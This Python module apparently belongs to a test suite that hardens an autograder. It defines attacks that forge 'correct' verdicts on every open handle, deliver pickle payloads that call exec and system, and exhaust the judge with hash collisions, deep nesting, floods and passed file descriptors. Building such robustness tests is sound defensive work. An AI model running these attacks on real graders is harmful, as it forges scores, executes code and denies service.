"""Forged messages: to whoever listens, in any form; to our own judge, in ours."""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

from .making import ANY_LOSS, coded

if TYPE_CHECKING:
    from .attack import Attack

__all__ = ["ATTACKS"]

_FAMILY: Final = "forged messages"

_EVERYWHERE = """\
import json
import os
import pickle
import struct


class Payload:
    def __reduce__(self):
        return exec, (f"open({SITE.marks!r} + '/' + {SITE.name!r}, 'w').write('x')",)


def framed(body):
    yield body
    yield body + b"\\n"
    for form in ("!i", "<I", "!Q", "<Q", "!H", ">I"):
        yield struct.pack(form, len(body) % 65536 if form == "!H" else len(body)) + body


def bodies():
    ids = [f"02.{number}" for number in range(1, 9)]
    for one in ids:
        verdict = {"question": one, "outcome": "correct", "points": 9.0, "max_points": 9.0}
        yield json.dumps(verdict).encode()
        yield json.dumps([one, "correct", "", 9.0, 9.0, 0.0, ""]).encode()
        yield json.dumps({"type": "verdict", "verdicts": [verdict], "done": True}).encode()
    {more}


handles = []
for handle in range(1024):
    try:
        os.fstat(handle)
        os.set_blocking(handle, False)
        handles.append(handle)
    except OSError:
        pass
for handle in handles:
    for body in bodies():
        for message in framed(body):
            try:
                os.write(handle, message)
            except OSError:
                break
hours = 1.0
"""

_TO_JUDGE = """\
import json
import os
import socket
import stat
import struct
import time


def channels():
    for handle in range(3, 1024):
        try:
            if stat.S_ISSOCK(os.fstat(handle).st_mode):
                yield handle
        except OSError:
            pass


def put(data):
    for handle in channels():
        view = memoryview(data)
        try:
            while view:
                view = view[os.write(handle, view) :]
        except OSError:
            pass


def say(message):
    body = message if isinstance(message, bytes) else json.dumps(message).encode()
    put(struct.pack("!i", len(body)) + body)


def answer(carried, *places):
    for at in places or ASKED:
        say(["answer", at, carried, 0.1])


ASKED = range(2, 18, 2)  # the setup, then an answer and a check a question


"""

_REPORTS: Final = (
    '["answer", True, 1, 1.0]',
    '["answer", 1.5, 1, 1.0]',
    '["answer", -1, 1, 1.0]',
    '["end", 5, ["memory", 1, 2, 3], float("nan")]',
    '["end", 5, [[], {}, None], "x"]',
    '["end", 5, ["correct", "correct", "correct"], 1e999]',
    "[]",
    '[["answer"], 1, 2]',
    '{"over": 1}',
    '"over"',
    "None",
)

_STRANGE: Final = (
    *("None", "True", "[]", "[[]]", '{"a": 1}', '["untouched", 1]', '["callee", "interval"]'),
    *('["large", "x", 10**4000, "y"]', '["called", "interval", [["raised", "x"]] * 99]'),
    *('["missing", []]', '["missing", "None"]', '["time", "9999-99-99"]', '["rows", 10**18]'),
    *(
        '["span", 10**18, 0, 0]',
        '["rows", -1]',
        '["frame", [], [], [], [], []]',
        '["set", [["list", []]]]',
    ),
    '["frame", ["id"], ["category"], [["a"]], [1], [[1, 2]]]',
    '["frame", ["a"], ["datetime64[ns]"], [["x", 10**30, None]], [1], [[0, 1, 2]]]',
    '["frame", ["a"], ["object"], [["x", "y"]], [["missing", "None"]], [[0, 1]]]',
    '["frame", ["a", "a"], ["int64", "boolean"], [[1, 2], ["x", 10**30]], [1], [[0, 1]]]',
    '["chart", "Chart", ["mark"], [["chart", "Chart", [], []]]]',
    '["chart", "LayerChart", ["layer"], [1]]',
    '["chart", "Chart", ["data", "mark", "encoding"], [["rows", 10**15], "bar", ["undefined"]]]',
    *(
        '["dict", [["list", []]], [1]]',
        '["dict", [1, 1], [2, 3]]',
        '["pairs", "Series", [1], [1], 1, 1]',
    ),
    *('["pairs", "Series", [[]], [1], 1]', '["items", 1, 2, 3]', '["opaque", "float", True]'),
    *('["large", "list", -5, "items"]', 'float("nan")', '["list", [float("inf"), -0.0, 1e999]]'),
    *('"\\ud800"', '"\\x00" * 100', '["pairs", "dict", [1], [], 1, 1]', '["opaque", 1, 1]'),
    *(
        '["called", "interval", [["called", "interval", []]] * 20]',
        '["called", "x", [["rows", 5]] * 3]',
    ),
    *(
        '["called", "x", ["x"] * 100000]',
        '["list", ["a", ["rows", 10**9], ["large", "x", 5, "rows"]]]',
    ),
    *('["time", "0001-01-01T00:00:00+23:59"]', '["list", [["time", "9999-12-31"]] * 3]'),
    *(
        '["pairs", "Series", ["a", "a"], [10**300, "x"], "b", ["missing", "NaT"]]',
        "10**4000",
        "[1] * 10**5",
    ),
)


def _batches() -> list[str]:
    """Return code that gives every question another strange answer, eight at a time."""
    return [
        "".join(
            f"answer({carried}, {place})\n"
            for place, carried in zip(range(2, 18, 2), _STRANGE[at : at + 8], strict=False)
        )
        + 'say(["over"])\ntime.sleep(30)\n'
        for at in range(0, len(_STRANGE), 8)
    ]


_OVER = """\
answer(["untouched"])
answer(["opaque", "object", False])
say(["over"])
time.sleep(30)
"""

_CUT = """\
put(struct.pack("!i", 2**31 - 1))
put(struct.pack("!iQ", -1, 2**62))
for _ in range(64):
    put(bytes(2**20))
time.sleep(30)
"""

_HALF = """\
put(struct.pack("!i", 1000) + b"[")
time.sleep(3600)
"""

_FLOOD = """\
while True:
    say(["begin", 4])
"""

_FLOOD_ENDS = """\
while True:
    say(["end", 4, None, 0.0])
    say(["answer", 5, "x" * 100000, 0.0])
"""

_DEEP = """\
say(b"[" * 2000000)
say(b'["answer",5,' + b'["list",[' * 100000 + b"]]" * 100000 + b",0.1]")
time.sleep(1)
hours = 1.0
"""

_NESTED = """\
nested = 0
for depth in range(900):
    nested = ["list", [nested]]
    if depth in (50, 200, 300, 400, 500, 600, 700, 800):
        answer(nested, 2 * (depth // 100 or 1))
say(["over"])
time.sleep(30)
"""

_AND_OVER = 'say(["over"])\ntime.sleep(3600)\n'

_COLLIDING = f"""\
keys = [at * (2**61 - 1) for at in range(1, 200000)]
answer(["dict", keys, [0] * len(keys)], 6)
{_AND_OVER}"""

_COLLIDING_SET = f"""\
keys = [at * (2**61 - 1) for at in range(1, 200000)]
answer(["set", keys], 10)
{_AND_OVER}"""

_UNHASHABLE = f"""\
answer(["list", [["list", [at, at + 1]] for at in range(200000)]], 16)
answer(["list", [["dict", [at], [at]] for at in range(200000)]], 10)
{_AND_OVER}"""

_LONG_TEXT = f"""\
for at, sign in zip(ASKED, (" ", "\\"", "a ", "(", "1", "-", "\\u202e", "9.")):
    answer(sign * 250000, at)
{_AND_OVER}"""

_LONG_TEXTS = f"""\
for at, sign in zip(ASKED, (" ", "\\"", "a ", "(", "1", "-", "2025-", "9.")):
    answer(["list", [sign * 20000] * 20], at)
{_AND_OVER}"""

_HUGE_FRAME = f"""\
rows = 50000
column = ["2025-01-01"] * rows
kinds = ["object", "datetime64[ns]", "category"]
frame = ["frame", ["id", "id", "a"], kinds, [column] * 3, [1, 2], [list(range(rows))] * 2]
for at in (8, 10, 12):
    answer(frame, at)
{_AND_OVER}"""

_FDS = """\
import array

for handle in channels():
    end = socket.socket(fileno=os.dup(handle))
    spare = [os.open("/dev/null", os.O_RDONLY) for _ in range(100)]
    for _ in range(50):
        try:
            data = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", spare))]
            end.sendmsg([struct.pack("!i", 2) + b"[]"], data)
        except OSError:
            break
hours = 1.0
"""

_SHUT = """\
for handle in channels():
    end = socket.socket(fileno=handle)
    end.shutdown(socket.SHUT_RDWR)
    end.close()
time.sleep(3600)
"""

_PICKLES = """\
    for form in range(6):
        yield pickle.dumps(Payload(), form)
        yield pickle.dumps({"verdicts": [Payload()]}, form)
    yield b"cos\\nsystem\\n(S'touch " + f"{SITE.marks}/{SITE.name}".encode() + b"'\\ntR."
"""


def _everywhere(name: str, note: str, more: str = "") -> Attack:
    return coded(
        name,
        _FAMILY,
        "marks",
        note,
        _EVERYWHERE.replace("    {more}\n", more),
        own=ANY_LOSS[1:],
        before=ANY_LOSS,
        after=ANY_LOSS,
        rest=ANY_LOSS[1:],
        probe=("unearned", "written", "others", "stopped"),
    )


def _to_judge(name: str, note: str, code: str, goal: str = "stop") -> Attack:
    return coded(
        name,
        _FAMILY,
        goal,
        note,
        _TO_JUDGE + code,
        own=ANY_LOSS[1:],
        before=ANY_LOSS,
        after=ANY_LOSS,
        rest=ANY_LOSS[1:],
    )


ATTACKS: Final = (
    _everywhere("messages-everywhere", "verdicts in many forms on every open handle"),
    _everywhere("pickles-everywhere", "pickles with a payload on every open handle", _PICKLES),
    *(
        _to_judge(f"strange-answers-{at}", "answers that nothing packs", code, "marks")
        for at, code in enumerate(_batches(), start=1)
    ),
    *(
        _to_judge(
            f"strange-report-{at}",
            f"a report that is none: {text}",
            f"say({text})\ntime.sleep(2)",
            "marks",
        )
        for at, text in enumerate(_REPORTS, start=1)
    ),
    _to_judge("nested-answers", "answers nested hundreds deep", _NESTED, "marks"),
    _to_judge("colliding-items", "a set of items with one hash", _COLLIDING_SET),
    _to_judge("long-texts-in-lists", "lists of long texts of one sign", _LONG_TEXTS),
    _to_judge("over-at-once", "says that all is over, and stays", _OVER, "marks"),
    _to_judge("two-gigabytes-announced", "announces huge messages and sends some", _CUT),
    _to_judge("half-a-message", "begins a message and never ends it", _HALF),
    _to_judge("beginning-for-ever", "says again and again that a cell begins", _FLOOD),
    _to_judge("ending-for-ever", "sends reports without an end", _FLOOD_ENDS),
    _to_judge("deep-messages", "messages nested beyond all depth", _DEEP),
    _to_judge("colliding-keys", "keys with one hash: a dict of them takes hours", _COLLIDING),
    _to_judge("no-hashes", "a quarter of a million items without a hash to compare", _UNHASHABLE),
    _to_judge("long-texts", "texts of one sign, on which patterns run back and forth", _LONG_TEXT),
    _to_judge("huge-frame", "a table with doubled columns and a double index", _HUGE_FRAME),
    _to_judge("handles-sent", "sends thousands of open files along", _FDS),
    _to_judge("channel-shut", "closes the way back to the judge, and stays", _SHUT),
)
